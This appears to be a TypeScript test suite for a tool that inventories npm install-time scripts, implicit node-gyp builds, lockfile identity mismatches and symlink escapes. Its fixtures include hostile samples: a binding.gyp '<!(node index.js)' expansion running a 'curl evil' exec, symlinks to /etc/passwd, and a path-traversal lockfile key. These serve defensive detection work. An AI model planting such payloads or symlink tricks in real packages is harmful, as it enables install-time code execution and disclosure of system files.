import assert from "node:assert/strict";
import { promises as fs } from "node:fs";
import path from "node:path";
import { test } from "node:test";
import { InstallError } from "../../src/install/errors.js";
import { inventoryInstallScripts } from "../../src/install/inventory.js";
import { registryUrl, tempDir, writeProject } from "./fixture.js";

test("finds preinstall, install and postinstall scripts, and the files they run", async () => {
  const dir = await tempDir();
  await writeProject(dir, {
    packages: {
      "node_modules/esbuild": {
        manifest: { name: "esbuild", version: "0.25.9", scripts: { postinstall: "node install.js", test: "node t.js" } },
        files: { "install.js": "require('./lib/util');\n", "lib/util.js": "module.exports = 1;\n" },
      },
      "node_modules/plain": { manifest: { name: "plain", version: "1.0.0" } },
      "node_modules/multi": {
        manifest: { name: "multi", version: "2.0.0", scripts: { preinstall: "sh ./pre.sh && node -e \"1\"", install: "node ./build", postinstall: "echo done" } },
        files: { "pre.sh": "echo hi\n", "build.js": "1;\n" },
      },
    },
  });
  const inventory = await inventoryInstallScripts(dir);
  assert.equal(inventory.packageCount, 3);
  assert.deepEqual(inventory.packages.map((p) => p.location).sort(), ["node_modules/esbuild", "node_modules/multi"]);
  const esbuild = inventory.packages.find((p) => p.identity.name === "esbuild")!;
  assert.deepEqual(esbuild.scripts.map((s) => [s.event, s.command]), [["postinstall", "node install.js"]]);
  assert.deepEqual(esbuild.scripts[0]!.targets, [{ kind: "file", path: "install.js", by: "node" }]);
  assert.deepEqual(Object.keys(esbuild.installCode.files), ["install.js", "lib/util.js"]);
  assert.match(esbuild.installCode.hash, /^sha256-/);
  const multi = inventory.packages.find((p) => p.identity.name === "multi")!;
  assert.deepEqual(multi.scripts.map((s) => s.event), ["preinstall", "install", "postinstall"]);
  assert.deepEqual(multi.scripts[0]!.targets, [{ kind: "file", path: "pre.sh", by: "sh" }, { kind: "inline", by: "node", code: "1" }]);
  assert.deepEqual(multi.scripts[1]!.targets, [{ kind: "file", path: "build.js", by: "node" }]);
  assert.deepEqual(multi.scripts[2]!.targets, []);
});

test("a binding.gyp with no install script means npm's implicit node-gyp rebuild, marked as a native build", async () => {
  const dir = await tempDir();
  await writeProject(dir, {
    packages: {
      "node_modules/native": {
        manifest: { name: "native", version: "1.0.0", scripts: { postinstall: "node after.js" } },
        files: { "binding.gyp": "{ 'targets': [ { 'target_name': 'n', 'sources': [ 'src/n.cc' ] } ] }", "src/n.cc": "int x;\n", "after.js": "" },
      },
      "node_modules/has-install": {
        manifest: { name: "has-install", version: "1.0.0", scripts: { install: "prebuild-install || node-gyp rebuild --release" } },
        files: { "binding.gyp": "{}" },
      },
      "node_modules/opted-out": { manifest: { name: "opted-out", version: "1.0.0", gypfile: false }, files: { "binding.gyp": "{}" } },
    },
  });
  const inventory = await inventoryInstallScripts(dir);
  const native = inventory.packages.find((p) => p.identity.name === "native")!;
  assert.deepEqual(native.scripts.map((s) => [s.event, s.command, s.implicit]), [["install", "node-gyp rebuild", true], ["postinstall", "node after.js", false]]);
  assert.deepEqual(native.scripts[0]!.hints, ["native-build"]);
  assert.ok(Object.hasOwn(native.installCode.files, "src/n.cc"), "gyp sources are part of the pinned install code");
  const explicit = inventory.packages.find((p) => p.identity.name === "has-install")!;
  assert.deepEqual(explicit.scripts.map((s) => [s.event, s.implicit]), [["install", false]]);
  assert.deepEqual(explicit.scripts[0]!.hints, ["native-build"]);
  assert.equal(inventory.packages.some((p) => p.identity.name === "opted-out"), false, "gypfile: false turns the implicit build off");
});

test("a binding.gyp <!(node index.js) payload is found even with a postinstall script present", async () => {
  const dir = await tempDir();
  await writeProject(dir, {
    packages: {
      "node_modules/gyp-payload": {
        manifest: { name: "gyp-payload", version: "1.0.0", scripts: { postinstall: "node ok.js" } },
        files: {
          "ok.js": "",
          "index.js": "require('child_process').exec('curl evil')\n",
          "binding.gyp": "# comment with <!(fake)\n{\n  'targets': [{\n    'target_name': 'x',\n    'include_dirs': [\"<!(node index.js)\"],\n    'libraries': ['<!@(pkg-config --libs foo)',],\n  }],\n}\n",
        },
      },
    },
  });
  const [pkg] = (await inventoryInstallScripts(dir)).packages;
  assert.ok(pkg);
  const commands = pkg.gyp?.commands.map((c) => [c.expansion, c.command]);
  assert.deepEqual(commands?.slice(0, 2), [["<!", "node index.js"], ["<!@", "pkg-config --libs foo"]]);
  assert.ok(pkg.scripts.some((s) => s.implicit), "no install script, so npm would run node-gyp rebuild and the payload");
  assert.ok(Object.hasOwn(pkg.installCode.files, "binding.gyp"));
});

test("identity comes from the lockfile when the tarball's package.json lies about its name", async () => {
  const dir = await tempDir();
  await writeProject(dir, {
    packages: {
      "node_modules/evil-pkg": {
        lock: { version: "1.0.3", resolved: registryUrl("evil-pkg", "1.0.3") },
        manifest: { name: "esbuild", version: "0.25.9", scripts: { preinstall: "node setup.js" } },
        files: { "setup.js": "" },
      },
    },
  });
  const [pkg] = (await inventoryInstallScripts(dir)).packages;
  assert.ok(pkg);
  assert.equal(pkg.identity.name, "evil-pkg");
  assert.equal(pkg.identity.version, "1.0.3");
  assert.deepEqual(pkg.claimed, { name: "esbuild", version: "0.25.9" });
  assert.equal(pkg.claimMismatch, true);
});

test("an alias is reported under the registered name from its resolved URL", async () => {
  const dir = await tempDir();
  await writeProject(dir, {
    packages: {
      "node_modules/trusted": {
        lock: { name: "naughty", version: "1.0.0", resolved: registryUrl("naughty", "1.0.0") },
        manifest: { name: "trusted", version: "1.0.0", scripts: { install: "node x.js" } },
        files: { "x.js": "" },
      },
    },
  });
  const [pkg] = (await inventoryInstallScripts(dir)).packages;
  assert.equal(pkg?.identity.name, "naughty");
});

test("write through a symlink planted in a package: a link out of the package folder is an error naming the package", async () => {
  const dir = await tempDir();
  await writeProject(dir, {
    packages: {
      "node_modules/linker": { manifest: { name: "linker", version: "1.0.0", scripts: { postinstall: "node x.js" } }, files: { "x.js": "" } },
      "node_modules/sibling": { manifest: { name: "sibling", version: "1.0.0" } },
    },
  });
  await fs.symlink("../sibling/package.json", path.join(dir, "node_modules/linker/sib.json"));
  await fs.symlink("/etc/passwd", path.join(dir, "node_modules/linker/deep.txt"));
  await fs.symlink("x.js", path.join(dir, "node_modules/linker/inside.js"));
  await assert.rejects(inventoryInstallScripts(dir), (error: unknown) => {
    assert.ok(error instanceof InstallError);
    assert.equal(error.code, "E_INSTALL");
    assert.match(error.message, /linker@1\.0\.0 \(node_modules\/linker\): node_modules\/linker\/(sib\.json|deep\.txt) links to/);
    assert.doesNotMatch(error.message, /inside\.js/);
    assert.deepEqual(error.packages, ["node_modules/linker"]);
    assert.ok(error.hint);
    return true;
  });
});

test("a package folder that is itself a link is an error, and its package.json is not followed", async () => {
  const dir = await tempDir();
  const outside = await tempDir();
  await fs.writeFile(path.join(outside, "package.json"), JSON.stringify({ name: "x", version: "1.0.0", scripts: { install: "node a" } }));
  await writeProject(dir, { packages: { "node_modules/x": { lock: { version: "1.0.0" } } } });
  await fs.mkdir(path.join(dir, "node_modules"), { recursive: true });
  await fs.symlink(outside, path.join(dir, "node_modules/x"));
  await assert.rejects(inventoryInstallScripts(dir), /package folder is a link/);
});

test("a package.json that is a link is refused, not read", async () => {
  const dir = await tempDir();
  await writeProject(dir, { packages: { "node_modules/x": { files: { "a.txt": "" } } } });
  await fs.symlink("/etc/hostname", path.join(dir, "node_modules/x/package.json"));
  await assert.rejects(inventoryInstallScripts(dir), (error: unknown) => error instanceof InstallError && /symbolic link/.test(error.message) && error.packages[0] === "node_modules/x");
});

test("the project's own lifecycle scripts are listed separately", async () => {
  const dir = await tempDir();
  await writeProject(dir, {
    root: { scripts: { preinstall: "node check.js", prepare: "tsc", test: "node --test" } },
    packages: { "node_modules/a": { manifest: { name: "a", version: "1.0.0" } } },
  });
  const inventory = await inventoryInstallScripts(dir);
  assert.equal(inventory.packages.length, 0);
  assert.equal(inventory.project.length, 1);
  assert.equal(inventory.project[0]!.location, "");
  assert.deepEqual(inventory.project[0]!.scripts.map((s) => s.event), ["preinstall", "prepare"]);
});

test("bins from node_modules/.bin are resolved to the package that provides them", async () => {
  const dir = await tempDir();
  await writeProject(dir, {
    packages: {
      "node_modules/prebuild-install": { manifest: { name: "prebuild-install", version: "7.1.3", bin: { "prebuild-install": "bin.js" } }, files: { "bin.js": "" } },
      "node_modules/sqlite": { manifest: { name: "sqlite", version: "12.4.1", scripts: { install: "prebuild-install || node-gyp rebuild --release" } }, files: { "binding.gyp": "{}" } },
    },
  });
  await fs.mkdir(path.join(dir, "node_modules/.bin"));
  await fs.symlink("../prebuild-install/bin.js", path.join(dir, "node_modules/.bin/prebuild-install"));
  const [pkg] = (await inventoryInstallScripts(dir)).packages;
  assert.deepEqual(pkg?.scripts[0]!.targets, [
    { kind: "bin", name: "prebuild-install", providedBy: "node_modules/prebuild-install", file: "node_modules/prebuild-install/bin.js" },
    { kind: "tool", name: "node-gyp" },
  ]);
  assert.deepEqual(pkg?.scripts[0]!.hints, ["native-build"]);
});

test("install order puts dependencies first, through packages without scripts", async () => {
  const dir = await tempDir();
  const scripted = (name: string, deps: Record<string, string> = {}) => ({
    lock: { dependencies: deps },
    manifest: { name, version: "1.0.0", scripts: { postinstall: "node i.js" } },
    files: { "i.js": "" },
  });
  await writeProject(dir, {
    packages: {
      "node_modules/a": scripted("a", { middle: "*" }),
      "node_modules/middle": { lock: { dependencies: { z: "*" } }, manifest: { name: "middle", version: "1.0.0" } },
      "node_modules/z": scripted("z"),
      "node_modules/b": scripted("b", { a: "*" }),
      "node_modules/b/node_modules/z": scripted("z"),
    },
  });
  const order = (await inventoryInstallScripts(dir)).packages.map((p) => p.location);
  assert.ok(order.indexOf("node_modules/z") < order.indexOf("node_modules/a"));
  assert.ok(order.indexOf("node_modules/a") < order.indexOf("node_modules/b"));
  assert.deepEqual(order.slice().sort(), ["node_modules/a", "node_modules/b", "node_modules/b/node_modules/z", "node_modules/z"]);
});

test("missing optional packages for other platforms are skipped", async () => {
  const dir = await tempDir();
  await writeProject(dir, { packages: { "node_modules/@esbuild/darwin-arm64": { lock: { optional: true } } } });
  const inventory = await inventoryInstallScripts(dir);
  assert.equal(inventory.packages.length, 0);
});

test("malformed inputs give errors naming the file, the key and the fix", async () => {
  const dir = await tempDir();
  await writeProject(dir, { packages: {} });
  await fs.writeFile(path.join(dir, "package-lock.json"), "{ not json");
  await assert.rejects(inventoryInstallScripts(dir), (e: unknown) => e instanceof InstallError && e.file?.endsWith("package-lock.json") === true && /not valid JSON/.test(e.message) && e.hint !== undefined);
  await fs.writeFile(path.join(dir, "package-lock.json"), JSON.stringify({ lockfileVersion: 1, dependencies: {} }));
  await assert.rejects(inventoryInstallScripts(dir), (e: unknown) => e instanceof InstallError && e.key === "lockfileVersion" && /--package-lock-only/.test(e.hint ?? ""));
  await fs.writeFile(path.join(dir, "package-lock.json"), JSON.stringify({ lockfileVersion: 3, packages: { "node_modules/../../etc": { version: "1.0.0" } } }));
  await assert.rejects(inventoryInstallScripts(dir), (e: unknown) => e instanceof InstallError && e.key === 'packages["node_modules/../../etc"]');
  await fs.writeFile(path.join(dir, "package-lock.json"), JSON.stringify({ lockfileVersion: 3, packages: { "node_modules/x": { version: 3 } } }));
  await assert.rejects(inventoryInstallScripts(dir), (e: unknown) => e instanceof InstallError && e.key === 'packages["node_modules/x"].version');
  await fs.rm(path.join(dir, "package-lock.json"));
  await assert.rejects(inventoryInstallScripts(dir), (e: unknown) => e instanceof InstallError && /npm install --ignore-scripts/.test(e.hint ?? ""));
});

test("a huge binding.gyp is refused rather than read", async () => {
  const dir = await tempDir();
  await writeProject(dir, { packages: { "node_modules/big": { manifest: { name: "big", version: "1.0.0" }, files: { "binding.gyp": "#".repeat(2 * 1024 * 1024) } } } });
  await assert.rejects(inventoryInstallScripts(dir), (e: unknown) => e instanceof InstallError && /big@1\.0\.0 .*larger than/.test(e.message) && e.packages.includes("node_modules/big"));
});
